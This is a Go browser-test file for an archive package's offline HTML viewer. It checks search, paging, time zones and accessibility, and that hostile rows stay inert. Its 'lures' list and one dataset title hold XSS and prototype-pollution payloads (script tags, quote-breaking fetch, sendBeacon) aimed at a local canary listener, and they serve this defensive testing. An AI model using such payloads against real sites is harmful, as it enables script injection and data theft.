package archive

import (
	"bytes"
	"context"
	"fmt"
	"net"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/heapprofiler"
	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"

	"offramp/deploy/local/localtest"
)

// drawn tells the page to show each of its tables and waits until all are there.
const drawn = `(async () => {
	const hosts = [...document.querySelectorAll("[data-browse]")];
	for (const host of hosts) {
		host.scrollIntoView();
		for (let i = 0; !host.querySelector(".browse .scroll > *") && !host.querySelector("[role=alert]"); i++) {
			if (i > 1000) throw new Error("nothing is drawn in " + host.dataset.browse);
			await new Promise(r => setTimeout(r, 10));
		}
	}
	scrollTo(0, 0);
	return hosts.length;
})()`

// settled waits until a condition of the page holds.
func settled(t *testing.T, tab *localtest.Tab, condition string) {
	t.Helper()
	ok := localtest.Eval[bool](tab, `(async () => {
		for (let i = 0; i < 2500; i++) {
			if (`+condition+`) return true;
			await new Promise(r => setTimeout(r, 10));
		}
		return false;
	})()`)
	if !ok {
		t.Fatalf("it never came to pass that %s", condition)
	}
}

// canary listens where hostile texts would lead a page that took them for more than text. Its address is in them.
func canary(t *testing.T) (address string, sang *atomic.Int64) {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	must(t, err)
	t.Cleanup(func() { _ = l.Close() })
	sang = new(atomic.Int64)
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			sang.Add(1)
			_ = c.Close()
		}
	}()
	return l.Addr().String(), sang
}

// lures are rows that would make themselves heard.
func lures(address string) [][][]byte {
	var rows [][][]byte
	for _, s := range []string{
		`<img src="http://%s/a">`, `</script><script src="http://%s/b"></script>`, `<link rel=preconnect href="http://%s">`, `http://%s/c`,
		`');fetch('http://%s/d');('`, `\');import("http://%s/e")//`, "\u2028);fetch(`http://%s/f`)//\u2029", `${fetch("http://%s/g")}`, `\u0027);fetch("http://%s/h")//`,
		`"}]');navigator.sendBeacon("http://%s/i")//`, "\n');new Image().src='http://%s/j'//", "\\", `\\'`, "__proto__", "constructor", "\x00\x1f\x7f",
	} {
		if strings.Contains(s, "%s") {
			s = fmt.Sprintf(s, address)
		}
		rows = append(rows, text(s, `{"__proto__":{"hacked":1},"a":[1,12345678901234567890,{"b":`+fmt.Sprintf("%q", "x")+`}],"e":[],"o":{}}`))
	}
	return rows
}

// TestI08_BrowsingRunsNothing opens the viewer of a hostile archive from a folder, and does there all that can be done.
// OFFRAMP_TEST_SHOTS names a folder for screenshots.
func TestI08_BrowsingRunsNothing(t *testing.T) {
	for _, tag := range []string{"en", "zh-CN"} {
		t.Run(tag, func(t *testing.T) {
			dir := extract(t, hostileArchive(t, tag, true))
			address := fileURL(filepath.Join(dir, rootPath(IndexPath, 1, 2)))
			tab := localtest.Browser(t)
			w := watch(t, tab)
			for width, theme := range map[int]string{320: "light", 390: "light", 1280: "dark"} {
				tab.Theme(theme)
				tab.Size(width, 900)
				tab.Open(address)
				if n := localtest.Eval[int](tab, drawn); n != 3 {
					t.Fatalf("%d tables", n)
				}
				asksForOwnFiles(t, tab, w, dir)
				if over := tab.Overflow(); over > 0 {
					t.Errorf("%s at %d px scrolls sideways by %d", theme, width, over)
				}
				if width == map[string]int{"en": 390, "zh-CN": 1280}[tag] { // it takes seconds, and differs in nothing else
					localtest.Axe(t, tab)
				}
				shoot(tab, fmt.Sprintf("viewer-%s-%s-%d.png", tag, theme, width))
			}
			openEachRow(t, tab)
			searchEverywhere(t, tab)
			holdsOnlyOurMarkup(t, tab, "script button input form label progress details summary mark pre dialog "+
				"@aria-labelledby @aria-modal @open @hidden @type @autocomplete @spellcheck @max @value @for @size @inputmode @aria-disabled @aria-current "+
				"@aria-hidden @data-browse @data-title @data-files @data-place @src @nonce")
			linksLeadToFiles(t, tab, dir)
			asksForOwnFiles(t, tab, w, dir)
			policyHolds(t, tab)
		})
	}
}

func fileURL(path string) string { return (&url.URL{Scheme: "file", Path: path}).String() }

// asksForOwnFiles checks that the page asked for nothing but itself and its own scripts, and that nothing else ran.
func asksForOwnFiles(t *testing.T, tab *localtest.Tab, w *witness, dir string) {
	t.Helper()
	if hacked := localtest.Eval[string](tab, `String(window.hacked) + String({}.hacked)`); hacked != "undefinedundefined" {
		t.Errorf("in the page: %s", hacked)
	}
	requests, words := w.take()
	for _, request := range requests {
		if u, err := url.Parse(request); err != nil || filepath.Ext(u.Path) != ".html" && !strings.HasPrefix(u.Path, dir+"/viewer/") || u.Scheme != "file" || u.RawQuery != "" {
			t.Errorf("the page asked for %s", request)
		}
	}
	if len(words) > 0 {
		t.Errorf("the page said %q", words)
	}
}

// openEachRow opens the details of each row of the first table, with a search for each row's own text.
func openEachRow(t *testing.T, tab *localtest.Tab) {
	t.Helper()
	n := localtest.Eval[int](tab, `(async () => {
		const host = document.querySelector("[data-browse]"), buttons = host.querySelectorAll(".open"), dialog = document.querySelector("dialog");
		for (const button of buttons) {
			button.click();
			if (!dialog.open || !dialog.querySelector("dd")) throw new Error("no details");
			dialog.querySelector("button").click();
			if (dialog.open) throw new Error("still open");
		}
		return buttons.length;
	})()`)
	if n != len(hostile)+3-2 { // one row is not UTF-8, and one has no binary where it should
		t.Errorf("%d rows", n)
	}
	for _, s := range []string{hostile[0], hostile[3], "</b>1 MB", "{{.HEADER}}", "שלום"} {
		find(t, tab, 0, s)
	}
	find(t, tab, 0, hostile[1])
}

// searchEverywhere looks for each hostile text in all tables at once, and follows what was found.
func searchEverywhere(t *testing.T, tab *localtest.Tab) {
	t.Helper()
	for _, s := range []string{hostile[0], hostile[1], hostile[3], "</b>1 MB", "שלום"} {
		findAll(t, tab, s)
	}
	localtest.Eval[any](tab, `document.querySelectorAll(".everywhere li button").forEach(b => b.click())`)
	settled(t, tab, `document.querySelector("[aria-current] mark")`)
}

// findAll searches in all tables and returns what is said in the end, and of each table in which something was found.
func findAll(t *testing.T, tab *localtest.Tab, query string) (said string, list []string) {
	t.Helper()
	localtest.Eval[any](tab, fmt.Sprintf(`(() => { const q = document.getElementById("all:q"); q.value = %s; q.form.querySelector("[type=submit]").click(); })()`, quoteJS(query)))
	settled(t, tab, `document.querySelector(".everywhere [role=status]").textContent && document.querySelector(".everywhere .going").hidden`)
	said = localtest.Eval[string](tab, `document.querySelector(".everywhere [role=status]").textContent`)
	return said, localtest.Eval[[]string](tab, `[...document.querySelectorAll(".everywhere li")].map(e => e.textContent.replace(/[\u2068\u2069]/g, ""))`)
}

// find searches in a table and returns what the viewer says in the end.
func find(t *testing.T, tab *localtest.Tab, table int, query string) string {
	t.Helper()
	js := fmt.Sprintf(`document.querySelectorAll("[data-browse]")[%d]`, table)
	localtest.Eval[any](tab, fmt.Sprintf(`(() => { const q = %s.querySelector("input[type=search]");
		for (const text of ["", %s]) { q.value = text; q.form.querySelector("[type=submit]").click(); } })()`, js, quoteJS(query)))
	settled(t, tab, js+`.querySelector("[role=status]").textContent && `+js+`.querySelector(".going").hidden`)
	return localtest.Eval[string](tab, js+`.querySelector("[role=status]").textContent`)
}

func quoteJS(s string) string { return string(appendString(nil, []byte(s))) }

// TestI08_LuresLeadNowhere has rows that would call a listener if any of them was more than text.
func TestI08_LuresLeadNowhere(t *testing.T) {
	address, sang := canary(t)
	rows := lures(address)
	var b bytes.Buffer
	a, err := NewWriter(&b, sampleHeader, Options{CSV: true, Browse: true})
	must(t, err)
	columns := []Column{{Name: "__proto__", Type: "text"}, {Name: `');fetch("http://` + address + `")//`, Type: "json"}}
	must(t, a.AddDataset(t.Context(), Dataset{Name: "constructor", Title: `');fetch("http://` + address + `")//`, Columns: columns, Source: int64(len(rows))}, reader(rows)))
	_, err = a.Close()
	must(t, err)
	dir := extract(t, b.Bytes())
	tab := localtest.Browser(t)
	w := watch(t, tab)
	tab.Open(fileURL(filepath.Join(dir, IndexPath)))
	localtest.Eval[int](tab, drawn)
	shown := localtest.Eval[[]string](tab, `[...document.querySelectorAll(".browse tbody tr")].map(tr => tr.children[1].textContent)`)
	for i, row := range rows {
		if want := visible(string(row[0])); shown[i] != want {
			t.Errorf("row %d shows %q, not %q", i+1, shown[i], want)
		}
	}
	tab.Click(".open")
	got := localtest.Eval[string](tab, `document.querySelectorAll("dialog pre")[1].textContent`)
	want := "{\n  \"__proto__\": {\n    \"hacked\": 1\n  },\n  \"a\": [\n    1,\n    12345678901234567890,\n    {\n      \"b\": \"x\"\n    }\n  ],\n  \"e\": [],\n  \"o\": {}\n}"
	if got != want {
		t.Errorf("the JSON document is shown as %s", got)
	}
	asksForOwnFiles(t, tab, w, dir)
	if n := sang.Load(); n > 0 {
		t.Errorf("%d connections came", n)
	}
}

// largeTable writes an archive with n rows whose texts are easy to tell.
func largeTable(t *testing.T, n int, tag string) string {
	t.Helper()
	h := sampleHeader
	h.Locale = tag
	var b bytes.Buffer
	a, err := NewWriter(&b, h, Options{CSV: true, Browse: true})
	must(t, err)
	columns := []Column{
		{Name: "id", Type: "integer", Meaning: "Number of the task"},
		{Name: "title", Type: "text"},
		{Name: "minutes", Type: "number", Unit: "min", Meaning: "Time spent"},
		{Name: "at", Type: "instant"},
		{Name: "note", Type: "text"},
	}
	err = a.AddDataset(t.Context(), Dataset{Name: "tasks", Title: "任务 Tasks", Columns: columns, Source: int64(n)}, func(_ context.Context, yield func([][]byte) error) (int64, error) {
		for i := range n {
			note := fmt.Sprintf("We looked at item %d again, and it seems fine; the number %d is what they asked for.", i*7919%100_003, i*31%977)
			switch {
			case i%50_000 == 49_999:
				note = "这里有一根ＮＥＥＤＬＥ，Straße in ΟΔΟΣ"
			case i%3 == 1:
				note = "<nil>"
			}
			if err := yield(text(fmt.Sprint(i+1), fmt.Sprintf("Task %06d 设计", i+1), fmt.Sprint(i%60)+".5", "2026-03-01 14:05:00+00", note)); err != nil {
				return int64(i), err
			}
		}
		return int64(n), nil
	})
	must(t, err)
	files := kept{"x": "x"}
	all := []Attachment{{Key: "gone", Name: "gone.pdf", Size: 1}}
	for i := range 450 {
		all = append(all, Attachment{Key: "x", Name: fmt.Sprintf("图 %03d.png", i), Size: 1})
	}
	must(t, a.AddAttachments(t.Context(), "tasks", int64(len(all)), listed(all...), files))
	_, err = a.Close()
	must(t, err)
	return extract(t, b.Bytes())
}

// gaps measures in the page how often it answered, and how long it did not.
const gaps = `(() => { let last = performance.now(); window.gap = window.answers = 0;
	const tick = () => { window.answers++; const now = performance.now(); window.gap = Math.max(window.gap, now - last); last = now; setTimeout(tick, 0); }; tick(); })()`

func heap(tab *localtest.Tab) (used float64) {
	tab.Do(chromedp.Func(func(ctx context.Context, target *chromedp.Target) error {
		if _, err := cdp.Call(ctx, target, heapprofiler.CollectGarbage, cdp.Empty{}); err != nil {
			return err
		}
		got, err := cdp.Call(ctx, target, runtime.GetHeapUsage, cdp.Empty{})
		used = got.UsedSize
		return err
	}))
	return used
}

// TestViewerOfALargeTable pages and searches through 200,000 rows.
func TestViewerOfALargeTable(t *testing.T) {
	const rows = 200_000
	dir := largeTable(t, rows, "en")
	tab := localtest.Browser(t)
	w := watch(t, tab)
	began := time.Now()
	tab.Open(fileURL(filepath.Join(dir, IndexPath)))
	settled(t, tab, `document.querySelectorAll(".browse tbody tr").length == 100`)
	t.Logf("the first page came after %v", time.Since(began))
	if n := localtest.Eval[int](tab, `[...document.querySelectorAll(".still")].filter(e => !e.hidden).length`); n > 1 { // attachments are far away
		t.Errorf("%d previews are still there", n)
	}
	before := heap(tab)
	localtest.Eval[any](tab, gaps)
	began = time.Now()
	for query, want := range map[string]string{
		"needle": "Rows found: 4", "NEEDLE": "Rows found: 4", "STRASSE": "Rows found: 4", "οδος": "Rows found: 4", "一根needle": "Rows found: 4",
		"task 1999": "Rows found: 100", "no such thing": "Nothing found.", "14:05:00Z": "Rows found: 200,000",
	} {
		if got := find(t, tab, 0, query); got != want {
			t.Errorf("%s: %s", query, got)
		}
	}
	t.Logf("eight searches took %v; the longest gap was %.0f ms", time.Since(began), localtest.Eval[float64](tab, `window.gap`))
	parts, err := filepath.Glob(filepath.Join(dir, "viewer/tasks/0*.js"))
	must(t, err)
	if n := localtest.Eval[int](tab, `window.answers`); n < 8*len(parts)/2 {
		t.Errorf("the page answered only %d times while it read %d chunks eight times", n, len(parts))
	}
	find(t, tab, 0, "needle")
	if grown := heap(tab) - before; grown > 12<<20 {
		t.Errorf("the page keeps %.0f more bytes", grown)
	} else {
		t.Logf("the page keeps %.0f more bytes", grown)
	}
	pagesThrough(t, tab)
	asksForOwnFiles(t, tab, w, dir)
}

// ids are the rows that the first table shows.
func ids(tab *localtest.Tab) []string {
	return localtest.Eval[[]string](tab, `[...document.querySelectorAll("[data-browse] .open")].map(b => b.textContent)`)
}

// pagesThrough goes on from a search for "needle".
func pagesThrough(t *testing.T, tab *localtest.Tab) {
	t.Helper()
	shows := func(want ...string) {
		t.Helper()
		settled(t, tab, fmt.Sprintf(`document.querySelector("[data-browse] .open")?.textContent == %s && !document.querySelector("[aria-busy]")`, quoteJS(want[0])))
		if got := ids(tab); len(got) < len(want) || !slices.Equal(got[:len(want)], want) {
			t.Errorf("rows %q, not %q", got, want)
		}
	}
	tab.Press("\r") // no field has the focus: nothing
	tab.Click(".tools button:nth-of-type(2)")
	shows("49,901")
	if got := tab.Text(`[data-browse] [role=status]`); got != "Found row 50,000: 1 of 4" {
		t.Error(got)
	}
	if n := tab.Count(`tr[aria-current].found mark`); n != 1 {
		t.Errorf("%d marks", n)
	}
	tab.Click(".tools input")
	shows("50,000", "100,000", "150,000", "200,000")
	shoot(tab, "large-found.png")
	tab.Click(`[data-place="149999"] button`)
	if got := tab.Text("dialog h2"); !strings.Contains(got, "Row 150,000") {
		t.Error(got)
	}
	localtest.Axe(t, tab)
	shoot(tab, "large-detail.png")
	tab.Click("dialog .actions button:nth-of-type(2)")
	shows("149,901")
	tab.Click(".pager button:nth-of-type(2)")
	shows("149,801")
	tab.Fill(".jump input", "２０００")
	tab.Press("\r")
	shows("199,901")
	tab.Click(".pager button:last-of-type")
	shows("199,901") // there is no further one
	tab.Click(".chooser summary")
	tab.Click(".choice:nth-of-type(2) input")
	settled(t, tab, `document.querySelector(".browse").querySelectorAll("thead th").length == 5`)
	if got := tab.Text(".chooser summary"); got != "Columns shown: 4 of 5" {
		t.Error(got)
	}
}

// TestViewerFindsAttachments searches in the list of files, of which the page alone shows 200.
func TestViewerFindsAttachments(t *testing.T) {
	dir := largeTable(t, 10, "zh-CN")
	tab := localtest.Browser(t)
	tab.Open(fileURL(filepath.Join(dir, IndexPath)))
	localtest.Eval[int](tab, drawn)
	if got := find(t, tab, 1, "图 44"); got != "找到的行数：10" {
		t.Error(got)
	}
	localtest.Eval[any](tab, `document.querySelectorAll("[data-browse]")[1].querySelector(".tools input").click()`)
	settled(t, tab, `document.querySelectorAll("[data-browse]")[1].querySelectorAll(".browse tbody tr").length == 10`)
	hrefs := localtest.Eval[[]string](tab, `[...document.querySelectorAll("[data-files] .browse tbody a")].map(a => decodeURIComponent(a.getAttribute("href")))`)
	if len(hrefs) != 10 || hrefs[9] != "attachments/tasks/图 449.png" {
		t.Errorf("%q", hrefs)
	}
	for _, width := range []int{390, 1280} {
		tab.Size(width, 900)
		localtest.Axe(t, tab)
		shoot(tab, fmt.Sprintf("attachments-%d.png", width))
	}
}

// TestViewerSearchesAllTables finds rows wherever they are, before any table but the first was near, and leads to them.
func TestViewerSearchesAllTables(t *testing.T) {
	dir := largeTable(t, 60_000, "en")
	tab := localtest.Browser(t)
	w := watch(t, tab)
	tab.Open(fileURL(filepath.Join(dir, IndexPath)))
	tab.Wait(".everywhere input")
	for query, want := range map[string]string{
		"needle":        "Rows found: 1, in 1 of 2 tables; 任务 Tasks, rows found: 1",
		"图 44":          "Rows found: 10, in 1 of 2 tables; Attachments, rows found: 10",
		"1":             "Rows found: 60,450, in 2 of 2 tables; 任务 Tasks, rows found: 60,000; Attachments, rows found: 450",
		"no such thing": "Nothing found.",
	} {
		said, list := findAll(t, tab, query)
		if got := strings.Join(append([]string{said}, list...), "; "); got != want {
			t.Errorf("%s: %s", query, got)
		}
	}
	findAll(t, tab, "图 449")
	tab.Click(".everywhere li button")
	settled(t, tab, `document.querySelector("[data-files] [aria-current] .num button")?.textContent == "450"`)
	if got := localtest.Eval[string](tab, `document.activeElement.value`); got != "图 449" {
		t.Errorf("the focus is at %q", got)
	}
	findAll(t, tab, "needle")
	shoot(tab, "everywhere.png")
	localtest.Axe(t, tab)
	said := localtest.Eval[string](tab, `(async () => {
		const all = document.querySelector(".everywhere"), q = document.getElementById("all:q");
		q.value = "task";
		q.form.querySelector("[type=submit]").click();
		while (all.querySelector("progress").value == 0) await new Promise(r => setTimeout(r, 1));
		all.querySelector(".going button").click();
		return all.querySelector("[role=status]").textContent + all.querySelectorAll("li").length;
	})()`)
	if !strings.HasPrefix(said, "Stopped after ") || !strings.HasSuffix(said, "0") || strings.Contains(said, "60,000") {
		t.Error(said)
	}
	asksForOwnFiles(t, tab, w, dir)
	must(t, os.Remove(filepath.Join(dir, "viewer/tasks/0001.js")))
	tab.Allow("ERR_FILE_NOT_FOUND")
	tab.Open(fileURL(filepath.Join(dir, IndexPath)))
	tab.Wait(".everywhere input")
	if said, list := findAll(t, tab, "图 44"); said != "Rows found: 10, in 1 of 2 tables" || len(list) != 2 || !strings.Contains(list[0], "viewer/tasks/0001.js") {
		t.Errorf("with a part missing: %s, %q", said, list)
	}
}

// TestViewerStops cancels a search that is under way.
func TestViewerStops(t *testing.T) {
	tab := localtest.Browser(t)
	tab.Open(fileURL(filepath.Join(largeTable(t, 60_000, "en"), IndexPath)))
	localtest.Eval[int](tab, drawn)
	said := localtest.Eval[string](tab, `(async () => {
		const q = document.querySelector("[data-browse] input[type=search]");
		q.value = "task";
		q.form.querySelector("[type=submit]").click();
		while (q.form.querySelector("progress").value == 0) await new Promise(r => setTimeout(r, 1));
		q.form.querySelector(".going button").click();
		return q.form.querySelector("[role=status]").textContent;
	})()`)
	if !strings.HasPrefix(said, "Stopped after ") || strings.Contains(said, " 0%") || strings.Contains(said, "60,000") {
		t.Error(said)
	}
	if got := find(t, tab, 0, "task 060000"); got != "Rows found: 1" {
		t.Error(got)
	}
}

// TestViewerNamesWhatIsMissing opens a page whose rows have not been unpacked with it, and one that may run no script.
func TestViewerNamesWhatIsMissing(t *testing.T) {
	dir := largeTable(t, 1000, "en")
	address := fileURL(filepath.Join(dir, IndexPath))
	must(t, os.Remove(filepath.Join(dir, "viewer/tasks/0001.js")))
	tab := localtest.Browser(t)
	tab.Allow("ERR_FILE_NOT_FOUND")
	tab.Open(address)
	tab.Wait("[role=alert]")
	if got := tab.Text("[role=alert]"); !strings.Contains(got, "viewer/tasks/0001.js") {
		t.Error(got)
	}
	must(t, os.RemoveAll(filepath.Join(dir, "viewer")))
	for _, scripts := range []bool{true, false} {
		tab.Scripts(scripts)
		tab.Open(address)
		if !scripts {
			break
		}
		if n := localtest.Eval[int](tab, `document.querySelectorAll("tbody tr").length`); n != 2+5+20+200 {
			t.Errorf("%d rows", n)
		}
	}
	tab.Wait(".still table")
}

// TestViewerShowsTimesInTheCustomersZone holds the script and the page without script to one clock, the customer's: in summer, in winter,
// across days, and with what is no instant. Search finds both forms, and a row's details show both.
func TestViewerShowsTimesInTheCustomersZone(t *testing.T) {
	times := []string{"2026-01-15 12:00:00+00", "2026-07-15 23:30:00.25+00", "0999-12-31 23:59:59+00", "infinity", "<nil>", "1969-07-20 20:17:40+00"}
	for zone, label := range map[string]string{"Europe/London": "London time", "Asia/Shanghai": "Beijing time (UTC+8)"} {
		h := sampleHeader
		h.Locale, h.Zone = "en", zone
		location, err := time.LoadLocation(zone)
		must(t, err)
		var b bytes.Buffer
		a, err := NewWriter(&b, h, Options{CSV: true, Browse: true})
		must(t, err)
		var rows [][][]byte
		var want []string
		for i, at := range times {
			rows = append(rows, text(fmt.Sprint(i), at))
			shown := local(at, location)
			if at == "<nil>" {
				shown = "--"
			}
			want = append(want, shown)
		}
		columns := []Column{{Name: "id", Type: "integer"}, {Name: "at", Type: "instant"}}
		must(t, a.AddDataset(t.Context(), Dataset{Name: "t", Title: "T", Columns: columns, Source: int64(len(rows))}, reader(rows)))
		_, err = a.Close()
		must(t, err)
		dir := extract(t, b.Bytes())
		tab := localtest.Browser(t)
		tab.Open(fileURL(filepath.Join(dir, IndexPath)))
		localtest.Eval[int](tab, drawn)
		const second = `[...document.querySelectorAll("%s tbody tr")].map(r => r.cells[2].firstChild.textContent)`
		for _, of := range []string{".browse", ".still"} {
			if got := localtest.Eval[[]string](tab, fmt.Sprintf(second, of)); !slices.Equal(got, want) {
				t.Errorf("%s, %s: %q, want %q", zone, of, got, want)
			}
		}
		if head := localtest.Eval[string](tab, `document.querySelector(".browse thead th:last-child").textContent`); head != "at "+label {
			t.Errorf("%s: the column is headed %q", zone, head)
		}
		for _, query := range []string{want[1], "2026-07-15T23:30:00.25Z"} {
			if got := find(t, tab, 0, query); got != "Rows found: 1" {
				t.Errorf("%s: %s: %s", zone, query, got)
			}
		}
		localtest.Eval[any](tab, `document.querySelector(".browse tbody tr .open").click()`)
		details := localtest.Eval[string](tab, `document.querySelector("dialog").textContent`)
		for _, part := range []string{want[0] + " (" + label + ")", "In the data files: 2026-01-15T12:00:00Z"} {
			if !strings.Contains(details, part) {
				t.Errorf("%s: the details lack %q: %s", zone, part, details)
			}
		}
	}
}
